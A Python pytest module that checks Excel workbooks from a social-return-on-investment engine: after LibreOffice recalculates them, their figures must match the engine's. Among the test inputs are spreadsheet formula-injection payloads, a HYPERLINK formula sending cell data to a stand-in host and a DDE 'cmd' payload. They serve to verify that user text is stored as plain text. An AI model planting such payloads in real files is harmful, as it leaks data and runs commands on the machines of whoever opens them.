"""The Excel workbook is live: recalculated by LibreOffice it gives the engine's figures
(method.md §3–§5), also after an input cell or the convention cell is changed.

How the recalculation is forced. openpyxl writes formulas without cached values; LibreOffice
computes such cells when it loads the file, but by default it keeps the cached values an .xlsx
already carries ("Recalculation on file load: Excel 2007 and newer: never"). So every call runs
with its own fresh profile (``-env:UserInstallation``, which also keeps parallel xdist workers
apart) whose ``registrymodifications.xcu`` sets ``Calc/Formula/Load/OOXMLRecalcMode = 0``
(always recalculate), and converts xlsx → xlsx: the converted copy holds the computed values,
read with ``openpyxl.load_workbook(..., data_only=True)``. A value that is missing (None) fails
the test, so a file LibreOffice did not compute cannot pass. All workbooks of this module go
through one LibreOffice call per worker.
"""

from __future__ import annotations

import copy
import os
import shutil
import signal
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from rendement.engine import Evaluation, evaluate, point_evaluation, prepare, scenario_row
from rendement.io.yamlio import load_case
from rendement.model import parse_case
from rendement.report import write_workbook
from rendement.report.xlsx import sheet_names
from rendement.texts import text

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
CASE_FILES = sorted(EXAMPLES.glob("*.yaml"))  # case files; examples/registry/ holds summaries
TOLERANCE = 0.01
SOFFICE_TIMEOUT = 240  # seconds for one batch of workbooks

RECALC_ALWAYS = """<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry"
 xmlns:xs="http://www.w3.org/2001/XMLSchema"
 xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
<item oor:path="/org.openoffice.Office.Calc/Formula/Load">
<prop oor:name="OOXMLRecalcMode" oor:op="fuse"><value>0</value></prop></item>
</oor:items>
"""


def _soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        pytest.fail(
            "LibreOffice is needed to recalculate the workbooks and was not found on PATH "
            "(install it: apt-get install libreoffice-calc-nogui)",
            pytrace=False,
        )
    return found


def recalculate(files: list[Path], out: Path, profile: Path) -> None:
    """Let LibreOffice load, recalculate and save ``files`` as .xlsx into ``out``."""
    (profile / "user").mkdir(parents=True, exist_ok=True)
    (profile / "user" / "registrymodifications.xcu").write_text(RECALC_ALWAYS, encoding="utf-8")
    command = [
        _soffice(),
        f"-env:UserInstallation={profile.as_uri()}",
        "--headless",
        "--norestore",
        "--convert-to",
        "xlsx",
        "--outdir",
        str(out),
        *map(str, files),
    ]
    # its own process group, so a hung soffice.bin can be stopped with everything it started
    process = subprocess.Popen(
        command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, start_new_session=True
    )
    try:
        output, _ = process.communicate(timeout=SOFFICE_TIMEOUT)
    except subprocess.TimeoutExpired:
        os.killpg(process.pid, signal.SIGKILL)
        process.communicate()
        pytest.fail(f"LibreOffice did not finish within {SOFFICE_TIMEOUT} s", pytrace=False)
    missing = [f.name for f in files if not (out / f.name).exists()]
    assert not missing, f"LibreOffice converted none of {missing}:\n{output.decode()}"


# ---- the workbooks ------------------------------------------------------------------------------


def _data(name: str) -> dict[str, Any]:
    return copy.deepcopy(load_case(EXAMPLES / name).data)


@dataclass(frozen=True)
class Variant:
    """A workbook to write (case data, scenario, language), an optional edit of one input cell
    made with openpyxl before recalculating, and the case data the engine checks it against."""

    data: dict[str, Any]
    scenario: str
    lang: str
    edit: Callable[[openpyxl.Workbook, str], None] | None = None
    expected_data: dict[str, Any] | None = None

    def expected(self) -> Evaluation:
        return evaluate(parse_case(self.expected_data or self.data), self.scenario)


def _inputs_cell(wb: openpyxl.Workbook, lang: str, row_label: str, column_label: str) -> Any:
    """The input cell in the row whose first cell is ``row_label``, in the column headed
    ``column_label`` (a header above that row)."""
    ws = wb[sheet_names(lang)[0]]
    row = _row_of(ws, row_label)
    for r in range(row - 1, 0, -1):
        for cell in ws[r]:
            if cell.value == column_label:
                return ws.cell(row=row, column=cell.column)
    raise AssertionError(f"no column {column_label!r} above {row_label!r}")


def _set_quantity(outcome: str, value: float) -> Callable[[openpyxl.Workbook, str], None]:
    def edit(wb: openpyxl.Workbook, lang: str) -> None:
        cell = _inputs_cell(wb, lang, outcome, text("xlsx.quantity", lang))
        assert isinstance(cell.value, int | float)  # a plain input, not a formula
        cell.value = value

    return edit


def _set_convention(convention: str) -> Callable[[openpyxl.Workbook, str], None]:
    def edit(wb: openpyxl.Workbook, lang: str) -> None:
        ws = wb[sheet_names(lang)[0]]
        cell = ws.cell(row=_row_of(ws, text("xlsx.discounting", lang)), column=2)
        assert cell.value in ("mkba", "svi")
        cell.value = convention

    return edit


def _with(data: dict[str, Any], edit: Callable[[dict[str, Any]], None]) -> dict[str, Any]:
    changed = copy.deepcopy(data)
    edit(changed)
    return changed


def _outcome(data: dict[str, Any], outcome: str) -> dict[str, Any]:
    return next(o for o in data["outcomes"] if o["id"] == outcome)


def _variants() -> dict[str, Variant]:
    variants: dict[str, Variant] = {}
    for path in CASE_FILES:
        data = _data(path.name)
        named = list(data.get("scenarios", {}))
        # both languages: the labels the test looks up come from the same catalogue
        for scenario, lang in [("base", "nl"), ("conservative", "en"), ("optimistic", "nl")]:
            variants[f"{path.stem}.{scenario}"] = Variant(data, scenario, lang)
        for scenario in named:
            variants[f"{path.stem}.{scenario}"] = Variant(data, scenario, "en")

    # a quantity typed into the workbook: 900 → 3600 GP consultations avoided (svi, drop-off)
    coaches = _data("buurtcoaches-ouderen.yaml")
    variants["quantity.buurtcoaches"] = Variant(
        coaches,
        "base",
        "nl",
        _set_quantity("minder-huisartsbezoek", 3600),
        _with(coaches, lambda d: _outcome(d, "minder-huisartsbezoek").update(quantity=3600)),
    )
    # 8000 → 5000 hours of kept jobs (mkba, a duration of 2.5 years)
    debts = _data("schuldhulp-vroegsignalering.yaml")
    variants["quantity.schuldhulp"] = Variant(
        debts,
        "base",
        "en",
        _set_quantity("werk-behouden", 5000),
        _with(debts, lambda d: _outcome(d, "werk-behouden").update(quantity=5000)),
    )
    # the convention cell switched, both ways
    variants["convention.schuldhulp"] = Variant(
        debts,
        "base",
        "nl",
        _set_convention("svi"),
        _with(debts, lambda d: d["case"].update(discounting="svi")),
    )
    variants["convention.buurtcoaches"] = Variant(
        coaches,
        "base",
        "en",
        _set_convention("mkba"),
        _with(coaches, lambda d: d["case"].update(discounting="mkba")),
    )
    # user text that a spreadsheet would read as formulas, and control characters openpyxl
    # refuses: the workbook still writes and its own formulas still give the engine's figures
    variants["injection.samenoud"] = Variant(_injected(), "base", "nl")
    return variants


INJECTED = {
    "title": '=HYPERLINK("http://x.example/?"&A1,"klik")',
    "stakeholder": "+cmd|' /C calc'!A0",
    "outcome": "-2+3",
    "pm": "@SUM(1,2)",
}


def _injected() -> dict[str, Any]:
    data = _data("samenoud.yaml")
    data["case"]["title"] = INJECTED["title"]
    data["stakeholders"][0]["name"] = INJECTED["stakeholder"]
    _outcome(data, "kostenverschuiving-wmo")["description"] = INJECTED["outcome"]
    _outcome(data, "welbevinden")["description"] = INJECTED["pm"]
    return data


VARIANTS = _variants()


def _write(variant: Variant, path: Path) -> None:
    structure = prepare(parse_case(variant.data))
    row = scenario_row(structure, variant.scenario)
    evaluation = point_evaluation(structure, row, variant.scenario)
    write_workbook(structure, evaluation, path, variant.lang, row=row)


@pytest.fixture(scope="module")
def recalculated(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Every variant written, edited where it says so, and recalculated in one LibreOffice call."""
    written = tmp_path_factory.mktemp("written")
    files = []
    for name, variant in VARIANTS.items():
        path = written / f"{name}.xlsx"
        _write(variant, path)
        if variant.edit is not None:
            wb = openpyxl.load_workbook(path)
            variant.edit(wb, variant.lang)
            wb.save(path)
        files.append(path)
    out = tmp_path_factory.mktemp("recalculated")
    recalculate(files, out, tmp_path_factory.mktemp("libreoffice-profile"))
    return {name: out / f"{name}.xlsx" for name in VARIANTS}


# ---- reading a recalculated workbook ------------------------------------------------------------


def _row_of(ws: Worksheet, label: str, after: int = 0) -> int:
    for row in ws.iter_rows(min_row=after + 1, max_col=1):
        if row[0].value == label:
            return row[0].row
    raise AssertionError(f"no row {label!r} in sheet {ws.title}")


def _number(ws: Worksheet, row: int, column: int) -> float:
    value = ws.cell(row=row, column=column).value
    assert isinstance(value, int | float), (
        f"{ws.title}!{ws.cell(row=row, column=column).coordinate} holds {value!r}: not recalculated"
    )
    return float(value)


def _figure(ws: Worksheet, key: str, lang: str) -> float | str:
    value = ws.cell(row=_row_of(ws, text(key, lang)), column=2).value
    assert value is not None, f"{key} was not recalculated"
    return value  # type: ignore[no-any-return]


def _check_against_engine(path: Path, lang: str, ev: Evaluation) -> None:
    wb = openpyxl.load_workbook(path, data_only=True)
    ws = wb[sheet_names(lang)[2]]
    header = _row_of(ws, text("xlsx.id", lang))
    rows = {}
    for r in range(header + 1, _row_of(ws, text("total", lang), header)):
        rows[ws.cell(row=r, column=1).value] = tuple(_number(ws, r, c) for c in (4, 5, 6))
    assert list(rows) == [s.id for s in ev.stakeholders]
    for s in ev.stakeholders:
        assert rows[s.id] == pytest.approx((s.investment, s.value, s.net), abs=TOLERANCE), s.id
    total = _row_of(ws, text("total", lang), header)
    assert tuple(_number(ws, total, c) for c in (4, 5, 6)) == pytest.approx(
        (ev.pv_investment, ev.pv_benefits, ev.npv), abs=TOLERANCE
    )
    assert _figure(ws, "pv_investment", lang) == pytest.approx(ev.pv_investment, abs=TOLERANCE)
    assert _figure(ws, "pv_benefits", lang) == pytest.approx(ev.pv_benefits, abs=TOLERANCE)
    assert _figure(ws, "npv", lang) == pytest.approx(ev.npv, abs=TOLERANCE)
    for key, expected in [
        ("sroi_ratio", ev.sroi_ratio),
        ("net_sroi_ratio", ev.net_sroi_ratio),
        ("bcr", ev.bcr),
    ]:
        got = _figure(ws, key, lang)
        if expected is None:
            assert got == "–", key
        else:
            assert got == pytest.approx(expected, abs=TOLERANCE), key
    assert _figure(ws, "conclusion", lang) == text(f"conclusion.{ev.conclusion}", lang)
    # method.md §8, compensating proposal in columns G (contribution) and H (net after)
    comp = ev.cofinancing.compensating
    assert comp is not None
    for k, s in enumerate(ev.stakeholders):
        r = header + 1 + k
        if comp.rows:
            row = comp.rows[k]
            got = (_number(ws, r, 7), _number(ws, r, 8))
            assert got == pytest.approx((row.proposed, row.net_after), abs=TOLERANCE), s.id
        else:
            assert ws.cell(row=r, column=7).value == "–"


# ---- tests --------------------------------------------------------------------------------------

PLAIN = [k for k, v in VARIANTS.items() if v.edit is None]
EDITED = [k for k, v in VARIANTS.items() if v.edit is not None]


@pytest.mark.parametrize("name", PLAIN)
def test_recalculated_workbook_gives_the_engine_figures(
    name: str, recalculated: dict[str, Path]
) -> None:
    variant = VARIANTS[name]
    _check_against_engine(recalculated[name], variant.lang, variant.expected())


@pytest.mark.parametrize("name", EDITED)
def test_an_edited_input_cell_moves_the_figures_to_the_engine_of_the_edited_case(
    name: str, recalculated: dict[str, Path]
) -> None:
    variant = VARIANTS[name]
    before = evaluate(parse_case(variant.data), variant.scenario)
    after = variant.expected()
    # the edit matters: the ratio moves by more than twice the tolerance, so a workbook that
    # did not follow the edit cannot pass (the svi switch moves it least: 1.2058 → 1.1793)
    assert before.sroi_ratio is not None and after.sroi_ratio is not None
    assert abs(after.sroi_ratio - before.sroi_ratio) > 2 * TOLERANCE
    _check_against_engine(recalculated[name], variant.lang, after)


def test_workbook_holds_formulas_where_the_engine_computes(tmp_path: Path) -> None:
    path = tmp_path / "case.xlsx"
    _write(VARIANTS["schuldhulp-vroegsignalering.base"], path)
    wb = openpyxl.load_workbook(path)
    inputs, calculation, results = (wb[n] for n in sheet_names("nl"))
    # results: no number anywhere, every figure a formula
    for row in results.iter_rows():
        for cell in row:
            assert not isinstance(cell.value, int | float), cell.coordinate
    # calculation: only the year numbers of the header row are plain numbers
    years = _row_of(calculation, text("year", "nl"))
    for row in calculation.iter_rows(min_row=years + 1):
        for cell in row:
            assert not isinstance(cell.value, int | float), cell.coordinate
    # inputs: an amount × years investment has its year cells as formulas of the amount
    team = _row_of(inputs, "schuldhulpteam")
    assert str(inputs.cell(row=team, column=9).value).startswith("=IF(")
    assert inputs.cell(row=_row_of(inputs, text("xlsx.discounting", "nl")), column=2).value == (
        "mkba"
    )


def test_workbook_sheets_are_named_in_the_language(tmp_path: Path) -> None:
    for lang, names in [
        ("nl", ["Invoer", "Berekening", "Resultaat", "Toets en schattingen"]),
        ("en", ["Inputs", "Calculation", "Results", "Assurance and estimates"]),
    ]:
        variant = VARIANTS["samenoud.base"]
        path = tmp_path / f"{lang}.xlsx"
        _write(Variant(variant.data, "base", lang), path)
        assert openpyxl.load_workbook(path).sheetnames == names


def test_workbook_takes_the_evaluations_scenario_when_no_row_is_given(tmp_path: Path) -> None:
    case = parse_case(VARIANTS["buurtcoaches-ouderen.base"].data)
    structure = prepare(case)
    ev = point_evaluation(structure, scenario_row(structure, "zonder-uitstel"), "zonder-uitstel")
    path = tmp_path / "scenario.xlsx"
    write_workbook(structure, ev, path)
    cell = _inputs_cell(
        openpyxl.load_workbook(path), "nl", "uitgestelde-opname", text("xlsx.quantity", "nl")
    )
    assert cell.value == 0  # the scenario's override, not the base 2160


def test_user_text_is_written_as_text_cells_never_as_formulas(tmp_path: Path) -> None:
    path = tmp_path / "injected.xlsx"
    _write(VARIANTS["injection.samenoud"], path)
    wb = openpyxl.load_workbook(path)
    inputs, _, results = (wb[n] for n in sheet_names("nl"))
    texts = {
        cell.value: cell
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    for value in (INJECTED["title"], INJECTED["stakeholder"], INJECTED["outcome"], INJECTED["pm"]):
        cell = texts[value]
        assert cell.data_type == "s", (cell.coordinate, cell.data_type)
        assert cell.quotePrefix, cell.coordinate
    # each sheet's title is the case title as text
    for ws in (inputs, results):
        assert ws["A1"].value == INJECTED["title"] and ws["A1"].data_type == "s"


def test_workbook_with_injected_text_still_recalculates(recalculated: dict[str, Path]) -> None:
    variant = VARIANTS["injection.samenoud"]
    _check_against_engine(recalculated["injection.samenoud"], variant.lang, variant.expected())
